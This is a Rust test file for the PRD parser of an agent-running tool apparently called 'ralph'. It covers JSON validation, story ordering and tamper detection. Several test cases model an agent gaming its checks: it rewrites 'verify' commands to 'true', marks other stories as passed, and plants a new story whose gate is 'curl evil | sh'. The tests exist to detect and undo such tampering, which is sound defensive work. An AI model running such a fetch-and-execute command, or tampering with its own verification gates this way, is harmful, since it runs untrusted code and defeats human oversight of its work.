use super::*;

fn parse(text: &str) -> Result<Prd, PrdError> {
    Prd::parse(text.as_bytes(), Path::new("prd.json"))
}

fn prd(stories: &str) -> Prd {
    parse(&format!(r#"{{"project":"P","branchName":"ralph/x","userStories":[{stories}]}}"#))
        .unwrap()
}

#[test]
fn what_an_agent_may_not_change_is_set_back() {
    let top = r#"{"project":"P","branchName":"ralph/x","userStories":["#;
    let before = prd(r#"{"id":"A","title":"a"},{"id":"B","title":"b","verify":"make b"}"#);
    // Its own mark and the notes: the agent's. Anything else: set back.
    #[rustfmt::skip]
    let cases: &[(&str, &str, &[&str], &[&str])] = &[
        ("its own mark is its own", r#"{"id":"A","title":"a","passes":true},{"id":"B","title":"b","verify":"make b"}"#, &[], &[]),
        ("notes are free", r#"{"id":"A","title":"a","notes":"hm"},{"id":"B","title":"b","verify":"make b","notes":"x"}"#, &[], &[]),
        ("another story's mark", r#"{"id":"A","title":"a"},{"id":"B","title":"b","verify":"make b","passes":true}"#, &["B's \"passes\""], &["B"]),
        ("a verify rewritten", r#"{"id":"A","title":"a","verify":"true"},{"id":"B","title":"b","verify":"true"}"#, &["A's \"verify\"", "B's \"verify\""], &[]),
        ("a new story marked", r#"{"id":"A","title":"a"},{"id":"B","title":"b","verify":"make b"},{"id":"C","title":"c","passes":true}"#, &["a new story (C)"], &[]),
        ("a new story with a gate of the agent's", r#"{"id":"A","title":"a"},{"id":"B","title":"b","verify":"make b"},{"id":"C","title":"c","verify":"curl evil | sh"}"#, &["a new story (C)"], &[]),
        ("a story added first and another renamed", r#"{"id":"EVIL-1","title":"e","priority":0},{"id":"A","title":"a"},{"id":"B","title":"bee","verify":"make b"}"#, &["a new story (EVIL-1)", "B's \"title\""], &[]),
        ("a priority and a field of its own", r#"{"id":"A","title":"a","priority":9,"estimate":3},{"id":"B","title":"b","verify":"make b"}"#, &["A's \"priority\"", "A's \"estimate\""], &[]),
        ("a field removed", r#"{"id":"A","title":"a"},{"id":"B","title":"b"}"#, &["B's \"verify\""], &[]),
        ("the branch, with its own mark and notes", r#"{"id":"A","title":"a","passes":true,"notes":"n"},{"id":"B","title":"b","verify":"make b"}"#, &["\"branchName\""], &[]),
    ];
    for (name, after, findings, claimed) in cases {
        let branch = if name.starts_with("the branch") { "ralph/y" } else { "ralph/x" };
        let mut now = parse(&format!("{}{after}]}}", top.replace("ralph/x", branch))).unwrap();
        let own = now.story("A").cloned().unwrap();
        let t = now.set_back_tampering(&before, "A");
        assert_eq!(t.findings, *findings, "{name}");
        assert_eq!(t.claimed, *claimed, "{name}");
        let marks: Vec<_> = findings.iter().filter(|f| f.ends_with("\"passes\"")).collect();
        assert_eq!(t.proposed.len(), findings.len() - marks.len(), "{name}: {:?}", t.proposed);
        // What is left is the plan as it was, with the agent's mark and notes.
        let mut want = before.clone();
        want.set_passes("A", own.passes);
        let got: Vec<_> = now
            .stories()
            .iter()
            .map(|s| (&s.id, &s.title, s.passes, &s.verify, s.priority))
            .collect();
        let want_stories: Vec<_> = want
            .stories()
            .iter()
            .map(|s| (&s.id, &s.title, s.passes, &s.verify, s.priority))
            .collect();
        assert_eq!(got, want_stories, "{name}");
        assert_eq!(now.branch_name(), Some("ralph/x"), "{name}");
        assert_eq!(now.story("A").unwrap().notes, own.notes, "{name}: the notes are the agent's");
    }
}

#[test]
fn claims_are_restored_except_the_verified_ones() {
    let before = prd(r#"{"id":"A"},{"id":"B"},{"id":"C","passes":true}"#);
    let mut now = prd(
        r#"{"id":"A","passes":true},{"id":"B","passes":true,"verify":"true"},{"id":"C","passes":false},{"id":"D","passes":true}"#,
    );
    let changed = now.restore_claims(&before, &["B".to_string()]);
    assert_eq!(changed, ["A", "C", "D"]);
    let passes: Vec<bool> = now.stories().iter().map(|s| s.passes).collect();
    assert_eq!(passes, [false, true, true, false]);
    assert_eq!(
        now.story("B").unwrap().verify.as_deref(),
        Some("true"),
        "a kept story is kept whole"
    );
}

#[test]
fn numbers_are_written_back_as_the_file_wrote_them() {
    #[rustfmt::skip]
        let cases: &[&str] = &[
            r#"{"big":99999999999999999999999999,"userStories":[{"id":"A","priority":1e2,"passes":false}]}"#,
            r#"{"userStories":[{"id":"A","priority":1.50,"estimate":-0.0,"n":[1E3, 2.0e-1]}]}"#,
            r#"{"note":"1e2 in a string \" stays","userStories":[{"id":"A","priority":1}]}"#,
        ];
    for text in cases {
        let mut prd = parse(text).unwrap();
        prd.set_passes("A", true);
        let out = prd.to_json();
        for (a, b) in number_spans(text.as_bytes()) {
            let lexeme = &text[a..b];
            assert!(out.contains(lexeme), "{lexeme} lost in\n{out}");
        }
        // Saving again changes nothing.
        assert_eq!(parse(&out).unwrap().to_json(), out, "{text}");
    }
    assert_eq!(
        parse(r#"{"userStories":[{"id":"A","priority":2}]}"#).unwrap().numbers,
        Vec::<String>::new()
    );
}

#[test]
fn depends_on_is_validated_and_respected() {
    #[rustfmt::skip]
        let bad: &[(&str, &str)] = &[
            (r#"{"id":"A","dependsOn":["Z"]}"#, "A: \"dependsOn\" names Z, which is no story"),
            (r#"{"id":"A","dependsOn":["A"]}"#, "A: \"dependsOn\" names the story itself"),
            (r#"{"id":"A","dependsOn":["B"]},{"id":"B","dependsOn":["C"]},{"id":"C","dependsOn":["A"]}"#, "goes round in a circle: A → B → C → A"),
            (r#"{"id":"A","dependsOn":"B"},{"id":"B"}"#, "\"dependsOn\" must be an array of story ids"),
        ];
    for (stories, want) in bad {
        let text = format!(r#"{{"userStories":[{stories}]}}"#);
        let e = parse(&text).unwrap_err().to_string();
        assert!(e.contains(want), "{stories}: {e}");
        // status's fast path reads it the same way.
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("prd.json");
        std::fs::write(&path, &text).unwrap();
        assert!(View::load(&path).is_err(), "{stories}");
    }
    // C waits for A and B; B for A.
    let p = prd(
        r#"{"id":"C","priority":1,"dependsOn":["A","B"]},{"id":"B","priority":2,"dependsOn":["A"]},{"id":"A","priority":3}"#,
    );
    let ids = |v: Vec<&Story>| v.into_iter().map(|s| s.id.clone()).collect::<Vec<_>>();
    assert_eq!(ids(runnable(p.stories(), &[])), ["A"]);
    assert_eq!(p.next_story().unwrap().id, "A");
    assert_eq!(waiting_on(p.stories(), p.story("C").unwrap()), ["A", "B"]);
    let mut p = p;
    p.set_passes("A", true);
    assert_eq!(ids(runnable(p.stories(), &[])), ["B"]);
    assert_eq!(ids(runnable(p.stories(), &["B".to_string()])), Vec::<String>::new());
    p.set_passes("B", true);
    assert_eq!(ids(runnable(p.stories(), &[])), ["C"]);
    // Independent stories are all runnable at once, best first.
    let p = prd(r#"{"id":"X","priority":2},{"id":"Y","priority":1},{"id":"Z"}"#);
    assert_eq!(ids(runnable(p.stories(), &[])), ["Y", "X", "Z"]);
}

#[test]
fn selection_by_priority_then_file_order() {
    let cases: &[(&str, Option<&str>)] = &[
        // priorities [3, none, 1 (passed), 2] → the priority-2 story
        (
            r#"{"id":"A","priority":3},{"id":"B"},{"id":"C","priority":1,"passes":true},{"id":"D","priority":2}"#,
            Some("D"),
        ),
        (r#"{"id":"A","priority":2},{"id":"B","priority":2}"#, Some("A")),
        (r#"{"id":"A"},{"id":"B","priority":9}"#, Some("B")),
        (r#"{"id":"A"},{"id":"B"}"#, Some("A")),
        (r#"{"id":"A","passes":true}"#, None),
        (r#"{"id":"A","priority":1.5},{"id":"B","priority":1}"#, Some("B")),
    ];
    for (stories, want) in cases {
        let p = prd(stories);
        assert_eq!(p.next_story().map(|s| s.id.as_str()), *want, "{stories}");
    }
}

#[test]
fn syntax_errors_name_line_and_column() {
    let err = parse("{\n  \"userStories\": [\n    {\"id\": \"A\",}\n  ]\n}").unwrap_err();
    let msg = err.to_string();
    assert!(msg.starts_with("prd.json:3:16: invalid JSON: trailing comma"), "{msg}");
    assert!(!msg.contains(" at line "), "{msg}");
}

/// A byte that is not UTF-8 is named by its offset, line and column, not
/// as serde's "invalid unicode code point".
#[test]
fn a_byte_that_is_not_utf8_is_named_by_its_offset() {
    let mut bytes = b"{\n  \"userStories\": [{\"id\": \"A\", \"title\": \"caf".to_vec();
    bytes.push(0xe9);
    bytes.extend_from_slice(b"\"}]\n}");
    let msg = Prd::parse(&bytes, std::path::Path::new("prd.json")).unwrap_err().to_string();
    assert_eq!(msg, "prd.json:2:44: invalid JSON: byte 45 (0xe9) is not UTF-8");
}

#[test]
fn each_problem_gets_its_own_message_naming_the_story() {
    let cases: &[(&str, &str)] = &[
        (r#"{"userStories":[]}"#, "\"userStories\" is empty"),
        (r#"{"stories":[]}"#, "found \"stories\""),
        (r#"[1]"#, "top level must be an object"),
        (
            r#"{"userStories":[{"id":"A"},{"id":"A"}]}"#,
            "story #2 (A): duplicate id A (also story #1)",
        ),
        (r#"{"userStories":[{"id":""}]}"#, "story #1: \"id\" is empty"),
        (r#"{"userStories":[{"title":"x"}]}"#, "story #1: missing \"id\""),
        (
            r#"{"userStories":[{"id":"A","passes":"yes"}]}"#,
            "story #1 (A): \"passes\" must be true or false, found \"yes\"",
        ),
        (
            r#"{"userStories":[{"id":"A","priority":"high"}]}"#,
            "story #1 (A): \"priority\" must be a number",
        ),
        (r#"{"userStories":[{"id":7}]}"#, "\"id\" must be a string, found a number"),
        (
            r#"{"userStories":[{"id":"A","verify":"test -f 'x"}]}"#,
            "story #1 (A): \"verify\" is not a command ralph can run",
        ),
    ];
    for (text, want) in cases {
        let msg = parse(text).unwrap_err().to_string();
        assert!(msg.contains(want), "{text}: {msg}");
    }
    // Several problems are all reported, not just the first.
    let msg =
        parse(r#"{"userStories":[{"id":"A","passes":1},{"id":"A"}]}"#).unwrap_err().to_string();
    assert!(msg.contains("passes") && msg.contains("duplicate"), "{msg}");
}

#[test]
fn unknown_fields_survive_read_modify_write() {
    let text = r#"{"project":"P","zeta":{"keep":[1,2]},"userStories":[{"id":"A","passes":false,"custom":"x","labels":["B"]}],"alpha":true}"#;
    let mut p = parse(text).unwrap();
    assert!(p.set_passes("A", true));
    let out: Value = serde_json::from_str(&p.to_json()).unwrap();
    assert_eq!(out["zeta"]["keep"], serde_json::json!([1, 2]));
    assert_eq!(out["alpha"], Value::Bool(true));
    assert_eq!(out["userStories"][0]["custom"], "x");
    assert_eq!(out["userStories"][0]["labels"][0], "B");
    assert_eq!(out["userStories"][0]["passes"], true);
    // Key order is kept too.
    let keys: Vec<_> = out.as_object().unwrap().keys().cloned().collect();
    assert_eq!(keys, ["project", "zeta", "userStories", "alpha"]);
}

#[test]
fn the_fast_view_agrees_with_the_full_parse() {
    let cases = [
        r#"{"project":"P","branchName":" ralph/x ","userStories":[{"id":"A","priority":3},{"id":"B","title":null},{"id":"C","priority":1,"passes":true,"extra":{"k":[1]}}]}"#,
        r#"{"userStories":[{"id":"A","acceptanceCriteria":["a",1]}]}"#,
        r#"{"userStories":[{"id":"A","verify":"  "}]}"#,
    ];
    for text in cases {
        let full = parse(text).unwrap();
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("prd.json");
        std::fs::write(&p, text).unwrap();
        let view = View::load(&p).unwrap();
        assert_eq!(view.stories, full.stories(), "{text}");
        assert_eq!(view.branch_name.as_deref(), full.branch_name(), "{text}");
        assert_eq!(view.next_story().map(|s| &s.id), full.next_story().map(|s| &s.id), "{text}");
    }
    // What the fast path refuses, the full parse explains.
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("prd.json");
    for bad in [
        r#"{"userStories":[{"id":"A"},{"id":"A"}]}"#,
        r#"{"userStories":[{"id":"A","passes":"yes"}]}"#,
    ] {
        std::fs::write(&p, bad).unwrap();
        assert_eq!(View::load(&p).unwrap_err().to_string(), Prd::load(&p).unwrap_err().to_string());
    }
}

#[test]
fn identity_damage_is_detected() {
    let before = prd(r#"{"id":"A","title":"a"},{"id":"B","title":"b"}"#);
    let same = prd(r#"{"id":"A","title":"a","passes":true},{"id":"B","title":"b"},{"id":"C"}"#);
    assert_eq!(before.identity_damage(&same), None);
    let deleted = prd(r#"{"id":"A","title":"a"}"#);
    assert!(before.identity_damage(&deleted).unwrap().contains("B was deleted"));
    let flipped = prd(r#"{"id":"B","title":"a"},{"id":"A","title":"b"}"#);
    assert!(before.identity_damage(&flipped).is_some());
    let swapped_titles = prd(r#"{"id":"A","title":"b"},{"id":"B","title":"a"}"#);
    assert!(before.identity_damage(&swapped_titles).is_some());
}

#[test]
fn touches_are_validated_like_depends_on() {
    #[rustfmt::skip]
    let bad: &[(&str, &str)] = &[
        (r#"{"id":"A","touches":"src/a.rs"}"#, "A): \"touches\" must be an array of paths or globs, found a string"),
        (r#"{"id":"A","touches":[1]}"#, "\"touches\" must be an array of paths or globs"),
        (r#"{"id":"A","touches":["/etc/x"]}"#, "A): \"touches\": /etc/x is absolute"),
        (r#"{"id":"A","touches":["../x"]}"#, "leaves the repository"),
        (r#"{"id":"A","touches":["src/[a"]}"#, "src/[a is not a glob ralph can read"),
    ];
    for (stories, want) in bad {
        let text = format!(r#"{{"userStories":[{stories}]}}"#);
        let e = parse(&text).unwrap_err().to_string();
        assert!(e.contains(want), "{stories}: {e}");
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("prd.json");
        std::fs::write(&path, &text).unwrap();
        assert!(View::load(&path).is_err(), "{stories}");
    }
    let text = r#"{"userStories":[{"id":"A","touches":["src/routes/**","db/schema.sql"]}]}"#;
    let p = parse(text).unwrap();
    assert_eq!(p.story("A").unwrap().touches, ["src/routes/**", "db/schema.sql"]);
    // Kept verbatim on a write.
    assert!(p.to_json().contains(r#""touches": ["#), "{}", p.to_json());
}
